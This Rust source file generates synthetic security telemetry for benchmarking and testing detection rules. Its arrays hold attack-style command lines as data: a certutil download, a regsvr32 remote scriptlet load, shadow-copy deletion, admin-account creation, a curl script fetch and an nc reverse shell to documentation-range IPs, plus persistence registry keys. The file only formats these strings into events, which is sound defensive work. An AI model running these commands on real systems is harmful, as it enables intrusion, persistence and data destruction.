//! Generated ECS events for benchmarks and the routing differential test: a deterministic
//! mix of process, file, network, registry, authentication and IAM events from Windows,
//! Linux and cloud sources, with real tool names and command lines, so that some corpus
//! rules fire.
//!
//! A pool of distinct event bodies is built once; [`EventStream`] then writes
//! `{"@timestamp":<ms>,<body>}` lines from it (one event per 10 ms), so a million events cost
//! a memory copy each rather than a `format!`, and are never all held in memory.

use std::fmt::Write as _;
use std::io::Read;

const WINDOWS_TOOLS: [&str; 24] = [
    "cmd.exe",
    "powershell.exe",
    "rundll32.exe",
    "regsvr32.exe",
    "mshta.exe",
    "certutil.exe",
    "schtasks.exe",
    "wmic.exe",
    "net.exe",
    "net1.exe",
    "vssadmin.exe",
    "msiexec.exe",
    "svchost.exe",
    "explorer.exe",
    "winword.exe",
    "excel.exe",
    "chrome.exe",
    "wscript.exe",
    "reg.exe",
    "sc.exe",
    "bitsadmin.exe",
    "netsh.exe",
    "app.exe",
    "updater.exe",
];

const WINDOWS_ARGS: [&str; 12] = [
    "/c whoami",
    "-NoProfile -EncodedCommand SQBFAFgA",
    "-urlcache -split -f http://203.0.113.9/a.exe",
    "/create /tn Updater /tr C:\\\\Users\\\\Public\\\\u.exe /sc minute",
    "delete shadows /all /quiet",
    "process call create calc.exe",
    "user admin P@ss /add",
    "localgroup administrators admin /add",
    "/s /u /i:http://203.0.113.9/x.sct scrobj.dll",
    "javascript:alert(1)",
    "--check-updates",
    "C:\\\\Users\\\\Public\\\\doc.docx",
];

const LINUX_TOOLS: [&str; 16] = [
    "bash",
    "sh",
    "curl",
    "wget",
    "nc",
    "python3",
    "perl",
    "chmod",
    "crontab",
    "base64",
    "sshd",
    "sudo",
    "systemctl",
    "useradd",
    "nginx",
    "java",
];

const LINUX_ARGS: [&str; 8] = [
    "-c id",
    "-s http://198.51.100.7/x.sh",
    "-e /bin/sh 198.51.100.7 4444",
    "+x /tmp/.x",
    "-d /tmp/payload",
    "-l",
    "start sshd",
    "-m backdoor",
];

const FILE_EXTENSIONS: [&str; 10] =
    ["exe", "dll", "docx", "ps1", "job", "lnk", "txt", "sh", "so", "vbs"];

const REGISTRY_KEYS: [&str; 5] = [
    "HKEY_USERS\\\\S-1-5-21-1-2-3-1104\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\Updater",
    "HKLM\\\\SYSTEM\\\\ControlSet001\\\\Services\\\\Svc\\\\ImagePath",
    "HKLM\\\\SOFTWARE\\\\Microsoft\\\\Windows NT\\\\CurrentVersion\\\\Image File Execution Options\\\\sethc.exe\\\\Debugger",
    "HKLM\\\\SOFTWARE\\\\Policies\\\\Microsoft\\\\Windows Defender\\\\DisableAntiSpyware",
    "HKCU\\\\Software\\\\Vendor\\\\Settings\\\\Theme",
];

const CLOUD_ACTIONS: [&str; 8] = [
    "CreateUser",
    "AttachUserPolicy",
    "CreateAccessKey",
    "ConsoleLogin",
    "DeleteTrail",
    "PutBucketPolicy",
    "GetObject",
    "AssumeRole",
];

/// A xorshift generator (deterministic across runs).
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        let at = usize::try_from(self.next() % items.len() as u64).unwrap_or(0);
        items[at]
    }

    fn below(&mut self, bound: u64) -> u64 {
        self.next() % bound
    }
}

/// `count` distinct event bodies (each a JSON object's members, without `@timestamp`).
pub(crate) fn event_pool(count: usize) -> Vec<String> {
    let mut random = Random(0x9E37_79B9_7F4A_7C15);
    (0..count).map(|_| body(&mut random)).collect()
}

fn body(random: &mut Random) -> String {
    let pick = random.below(100);
    if pick < 35 {
        process(random)
    } else if pick < 60 {
        file(random)
    } else if pick < 75 {
        network(random)
    } else if pick < 85 {
        registry(random)
    } else if pick < 93 {
        authentication(random)
    } else {
        iam(random)
    }
}

/// Host, agent and data stream members shared by endpoint events.
fn endpoint(random: &mut Random, windows: bool, dataset: &str) -> String {
    let host = random.below(60);
    let (os, platform) = if windows { ("windows", "windows") } else { ("linux", "ubuntu") };
    format!(
        r#""host":{{"id":"host-{host}","name":"{os}{host}","os":{{"type":"{os}","platform":"{platform}","family":"{platform}"}}}},"agent":{{"type":"endpoint","version":"8.17.0"}},"ecs":{{"version":"8.11.0"}},"user":{{"name":"user{}","id":"S-1-5-21-1-2-3-{}"}},"data_stream":{{"type":"logs","dataset":"endpoint.events.{dataset}","namespace":"default"}},"event":{{"module":"endpoint","dataset":"endpoint.events.{dataset}","kind":"event","#,
        random.below(40),
        1000 + random.below(40)
    )
}

/// A process member (`"process":{...}`) running a tool with arguments.
fn process_member(random: &mut Random, windows: bool) -> String {
    let entity = random.below(5000);
    let (name, args, parent) = if windows {
        (random.pick(&WINDOWS_TOOLS), random.pick(&WINDOWS_ARGS), random.pick(&WINDOWS_TOOLS))
    } else {
        (random.pick(&LINUX_TOOLS), random.pick(&LINUX_ARGS), random.pick(&LINUX_TOOLS))
    };
    let folder = if windows { "C:\\\\Windows\\\\System32\\\\" } else { "/usr/bin/" };
    let executable = format!("{folder}{name}");
    format!(
        r#""process":{{"entity_id":"{{{entity:08x}}}","pid":{},"name":"{name}","executable":"{executable}","command_line":"{executable} {args}","args":["{executable}","{args}"],"parent":{{"name":"{parent}","entity_id":"{{{:08x}}}","executable":"{folder}{parent}"}},"code_signature":{{"trusted":{},"subject_name":"Microsoft Windows"}}}}"#,
        random.below(65536),
        random.below(5000),
        random.below(2) == 0
    )
}

fn process(random: &mut Random) -> String {
    let windows = random.below(10) < 7;
    let common = endpoint(random, windows, "process");
    let (kind, action) = if random.below(5) == 0 {
        ("end", "end")
    } else {
        ("start", if windows { "start" } else { "exec" })
    };
    let process = process_member(random, windows);
    format!(r#"{common}"category":["process"],"type":["{kind}"],"action":"{action}"}},{process}"#)
}

fn file(random: &mut Random) -> String {
    let windows = random.below(10) < 7;
    let common = endpoint(random, windows, "file");
    let extension = random.pick(&FILE_EXTENSIONS);
    let name = format!("f{}.{extension}", random.below(500));
    let path = if windows {
        let folder = [
            "C:\\\\Windows\\\\Tasks",
            "C:\\\\Users\\\\Public",
            "C:\\\\Windows\\\\System32",
            "C:\\\\ProgramData\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup",
        ];
        format!("{}\\\\{name}", random.pick(&folder))
    } else {
        let folder = ["/tmp", "/etc/cron.d", "/home/user/.ssh", "/etc/systemd/system", "/dev/shm"];
        format!("{}/{name}", random.pick(&folder))
    };
    let (kind, action) = random
        .pick(&["creation|creation", "change|overwrite", "deletion|deletion", "change|rename"])
        .split_once('|')
        .unwrap_or(("creation", "creation"));
    let process = process_member(random, windows);
    format!(
        r#"{common}"category":["file"],"type":["{kind}"],"action":"{action}"}},"file":{{"path":"{path}","name":"{name}","extension":"{extension}","size":{}}},{process}"#,
        random.below(100_000)
    )
}

fn network(random: &mut Random) -> String {
    let windows = random.below(10) < 6;
    let common = endpoint(random, windows, "network");
    let process = process_member(random, windows);
    if random.below(3) == 0 {
        let domain = random.pick(&[
            "example.com",
            "api.telegram.org",
            "pastebin.com",
            "raw.githubusercontent.com",
            "ngrok.io",
        ]);
        return format!(
            r#"{common}"category":["network"],"type":["protocol","info"],"action":"lookup_requested"}},"dns":{{"question":{{"name":"{domain}","type":"A"}}}},{process}"#
        );
    }
    let port = random.pick(&["443", "80", "4444", "3389", "22", "445", "8080", "53"]);
    format!(
        r#"{common}"category":["network"],"type":["start"],"action":"connection_attempted"}},"source":{{"ip":"10.0.{}.{}","port":{}}},"destination":{{"ip":"{}.{}.{}.{}","port":{port}}},"network":{{"direction":"egress","transport":"tcp"}},{process}"#,
        random.below(256),
        random.below(256),
        49152 + random.below(16000),
        random.pick(&["203", "198", "10", "192", "172"]),
        random.below(256),
        random.below(256),
        random.below(256)
    )
}

fn registry(random: &mut Random) -> String {
    let common = endpoint(random, true, "registry");
    let path = random.pick(&REGISTRY_KEYS);
    let value = path.rsplit("\\\\").next().unwrap_or("x");
    let process = process_member(random, true);
    format!(
        r#"{common}"category":["registry"],"type":["change"],"action":"modification"}},"registry":{{"path":"{path}","value":"{value}","data":{{"strings":["C:\\Users\\Public\\u.exe"],"type":"REG_SZ"}}}},{process}"#
    )
}

fn authentication(random: &mut Random) -> String {
    let host = random.below(60);
    let outcome = if random.below(4) == 0 { "failure" } else { "success" };
    if random.below(2) == 0 {
        let code = if outcome == "success" { "4624" } else { "4625" };
        format!(
            r#""host":{{"name":"dc{host}","os":{{"type":"windows"}}}},"data_stream":{{"type":"logs","dataset":"system.security","namespace":"default"}},"event":{{"category":["authentication"],"type":["start"],"code":"{code}","action":"logged-in","outcome":"{outcome}","module":"system","dataset":"system.security","provider":"Microsoft-Windows-Security-Auditing","kind":"event"}},"winlog":{{"channel":"Security","logon":{{"type":"{}"}},"event_data":{{"TargetUserName":"user{}","LogonType":"{}","AuthenticationPackageName":"NTLM"}}}},"source":{{"ip":"10.0.{}.{}"}},"user":{{"name":"user{}"}}"#,
            random.pick(&["Network", "Interactive", "RemoteInteractive"]),
            random.below(40),
            random.pick(&["3", "2", "10"]),
            random.below(256),
            random.below(256),
            random.below(40)
        )
    } else {
        format!(
            r#""host":{{"name":"linux{host}","os":{{"type":"linux"}}}},"data_stream":{{"type":"logs","dataset":"system.auth","namespace":"default"}},"event":{{"category":["authentication"],"type":["start"],"action":"ssh_login","outcome":"{outcome}","module":"system","dataset":"system.auth","kind":"event"}},"process":{{"name":"sshd"}},"source":{{"ip":"198.51.100.{}"}},"user":{{"name":"{}"}}"#,
            random.below(256),
            random.pick(&["root", "admin", "ubuntu", "user1"])
        )
    }
}

fn iam(random: &mut Random) -> String {
    if random.below(2) == 0 {
        let code = random.pick(&["4720", "4728", "4732", "4738", "4702", "4698"]);
        format!(
            r#""host":{{"name":"dc{}","os":{{"type":"windows"}}}},"data_stream":{{"type":"logs","dataset":"system.security","namespace":"default"}},"event":{{"category":["iam"],"type":["creation","change"],"code":"{code}","action":"added-member-to-group","outcome":"success","module":"system","dataset":"system.security","kind":"event"}},"winlog":{{"channel":"Security","event_data":{{"SubjectUserName":"admin","TargetUserName":"user{}","SubjectUserSid":"{}","TaskName":"\\Vendor\\Task{}"}}}},"group":{{"name":"Administrators"}}"#,
            random.below(60),
            random.below(40),
            random.pick(&["S-1-5-18", "S-1-5-21-1-2-3-1104"]),
            random.below(30)
        )
    } else {
        let action = random.pick(&CLOUD_ACTIONS);
        format!(
            r#""cloud":{{"provider":"aws","account":{{"id":"1234567890{}"}},"region":"us-east-1"}},"data_stream":{{"type":"logs","dataset":"aws.cloudtrail","namespace":"default"}},"event":{{"category":["iam"],"type":["change"],"dataset":"aws.cloudtrail","provider":"iam.amazonaws.com","action":"{action}","outcome":"{}","module":"aws","kind":"event"}},"aws":{{"cloudtrail":{{"user_identity":{{"type":"IAMUser","arn":"arn:aws:iam::123456789012:user/u{}"}}}}}},"source":{{"ip":"198.51.100.{}"}},"user_agent":{{"original":"aws-cli/2.0"}}"#,
            random.below(10),
            random.pick(&["success", "success", "failure"]),
            random.below(20),
            random.below(256)
        )
    }
}

/// NDJSON lines made from a pool of bodies, one event per 10 ms, read as a stream.
pub(crate) struct EventStream {
    pool: Vec<String>,
    random: Random,
    remaining: usize,
    millis: i64,
    buffer: Vec<u8>,
    read_at: usize,
}

impl EventStream {
    /// `count` events drawn from `pool`.
    pub(crate) fn new(pool: Vec<String>, count: usize) -> Self {
        Self {
            pool,
            random: Random(0x2545_F491_4F6C_DD1D),
            remaining: count,
            millis: 1_752_141_600_000,
            buffer: Vec::with_capacity(1 << 16),
            read_at: 0,
        }
    }

    fn refill(&mut self) {
        self.buffer.clear();
        self.read_at = 0;
        let mut line = String::new();
        while self.remaining > 0 && self.buffer.len() < 60_000 {
            self.remaining -= 1;
            self.millis += 10;
            let at = usize::try_from(self.random.next() % self.pool.len() as u64).unwrap_or(0);
            line.clear();
            let _ = write!(line, "{{\"@timestamp\":{},", self.millis);
            self.buffer.extend_from_slice(line.as_bytes());
            self.buffer.extend_from_slice(self.pool[at].as_bytes());
            self.buffer.extend_from_slice(b"}\n");
        }
    }
}

impl Read for EventStream {
    fn read(&mut self, out: &mut [u8]) -> std::io::Result<usize> {
        if self.read_at == self.buffer.len() {
            self.refill();
        }
        let n = out.len().min(self.buffer.len() - self.read_at);
        out[..n].copy_from_slice(&self.buffer[self.read_at..self.read_at + n]);
        self.read_at += n;
        Ok(n)
    }
}
